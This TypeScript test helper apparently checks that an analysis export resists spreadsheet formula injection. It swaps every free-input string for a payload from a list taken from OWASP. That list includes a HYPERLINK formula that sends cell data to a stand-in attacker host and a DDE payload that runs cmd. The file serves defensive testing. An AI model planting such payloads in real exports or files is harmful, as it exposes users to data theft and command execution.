import type { Analysis } from '@gpufit/schema';

/** Payloads from the OWASP CSV Injection page: each starts with a character spreadsheets treat as a formula. */
export const INJECTION_PAYLOADS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

/**
 * Keys whose strings are closed vocabularies or months the schema validates (a kind, a level, a month), not
 * free input text. Every other string in the analysis came from input (names, ids, providers, regions,
 * sources, reasons) and is replaced by the payload.
 */
const VOCABULARY_KEYS = new Set([
  'schemaVersion',
  'kind',
  'level',
  'approach',
  'recommendation',
  'side',
  'scope',
  'market',
  'pricingCategory',
  'jobUnit',
  'variable',
  'status',
  'month',
  'startMonth',
  'subsidyCliffMonth',
]);

/** Component names and rejection codes are vocabularies too, but their key (`name`, `code`) is not. */
const VOCABULARY_PARENTS = new Set(['components', 'rejections']);

/** A copy of the analysis with every input string replaced by `payload`, and the paths that were replaced. */
export function withEveryInputString(
  analysis: Analysis,
  payload: string,
): { analysis: Analysis; paths: string[] } {
  const paths: string[] = [];
  const walk = (value: unknown, path: readonly string[]): unknown => {
    if (typeof value === 'string') {
      const key = path.at(-1) ?? '';
      const listedUnder = path.at(-3) ?? '';
      const vocabulary =
        VOCABULARY_KEYS.has(key) ||
        (VOCABULARY_PARENTS.has(listedUnder) && (key === 'name' || key === 'code'));
      if (vocabulary) return value;
      paths.push(path.join('.'));
      return payload;
    }
    if (Array.isArray(value)) return value.map((v, i) => walk(v, [...path, String(i)]));
    if (value !== null && typeof value === 'object') {
      return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, walk(v, [...path, k])]));
    }
    return value;
  };
  return { analysis: walk(analysis, []) as Analysis, paths };
}
